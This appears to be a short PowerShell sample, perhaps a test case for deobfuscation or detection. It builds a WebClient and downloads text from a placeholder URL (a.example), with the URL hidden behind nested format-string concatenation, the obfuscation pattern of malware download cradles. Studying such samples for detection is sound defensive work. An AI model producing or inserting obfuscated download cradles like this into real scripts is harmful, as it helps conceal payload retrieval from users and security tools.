$wc = New-Object System.Net.WebClient
$wc.DownloadString((('{1}{0}' -f ('{0}{1}' -f 'ple/p/','x.txt'),'http://a.exam')))
